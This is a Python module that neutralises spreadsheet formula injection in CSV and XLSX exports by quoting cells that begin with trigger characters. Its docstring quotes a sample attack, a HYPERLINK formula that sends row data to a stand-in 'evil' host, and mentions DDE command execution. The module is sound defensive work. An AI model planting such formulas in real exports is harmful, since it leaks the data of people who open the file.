"""Cells that a spreadsheet would run as formulas, made inert before they are written.

Excel, WPS and LibreOffice treat a cell starting with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil/?"&A1, "点击")` leaks the row; DDE formulas run programs), and
tab or carriage return first can smuggle one past a naive check. `inert` puts a single
quote in front, which the spreadsheet shows as text and does not display. Use it on every
text cell of CSV and XLSX exports (ledger, directory, reports). `write_xlsx` streams a list
(the queue, the clues, the hand-offs) into a workbook with every text cell a string cell.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date, datetime
from typing import Any

from hub.workdays import SHANGHAI

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def inert(value: object) -> object:
    """The value, safe as a spreadsheet cell; numbers and None pass unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def restored(value: str) -> str:
    """The text `inert` was given, for files the hub exported and reads back."""
    if value.startswith("'") and value[1:].startswith(TRIGGERS):
        return value[1:]
    return value


def write_xlsx(target: Any, sheet: str, headers: list[str], rows: Iterable[list[Any]],
               widths: list[int] | None = None) -> int:
    """Rows into a one-sheet .xlsx at `target` (a path or a binary file), streamed: openpyxl's
    write-only mode keeps no row once written. Text is always a string cell: one that looks
    like a formula (`inert`'s triggers) is written as an explicit string with Excel's "quote
    prefix", so no spreadsheet evaluates it and the text stays as typed. Datetimes are shown
    in Beijing time. Returns the number of rows written (the header not counted)."""
    from openpyxl import Workbook  # numpy comes with it: seconds at import
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    ws = book.create_sheet(sheet[:31])
    ws.freeze_panes = "A2"
    for i, name in enumerate(headers, start=1):
        width = widths[i - 1] if widths and i <= len(widths) else max(10, len(name) * 2 + 2)
        ws.column_dimensions[get_column_letter(i)].width = width
    bold = Font(bold=True)
    head = []
    for name in headers:
        cell = WriteOnlyCell(ws, value=name)
        cell.font = bold
        head.append(cell)
    ws.append(head)

    def cell(value: Any) -> Any:
        if isinstance(value, datetime):
            shown = WriteOnlyCell(ws, value=value.astimezone(SHANGHAI).replace(tzinfo=None))
            shown.number_format = "yyyy-mm-dd hh:mm"
            return shown
        if isinstance(value, date):
            shown = WriteOnlyCell(ws, value=value)
            shown.number_format = "yyyy-mm-dd"
            return shown
        if isinstance(value, str) and (value.startswith(TRIGGERS) or value.startswith("'")):
            shown = WriteOnlyCell(ws, value=value)
            shown.data_type = "s"  # never "f": a formula-looking text stays text
            shown.quotePrefix = True
            return shown
        return value

    n = 0
    for row in rows:
        ws.append([cell(v) for v in row])
        n += 1
    if n:
        ws.auto_filter.ref = f"A1:{get_column_letter(len(headers))}{n + 1}"
    book.save(target)
    return n
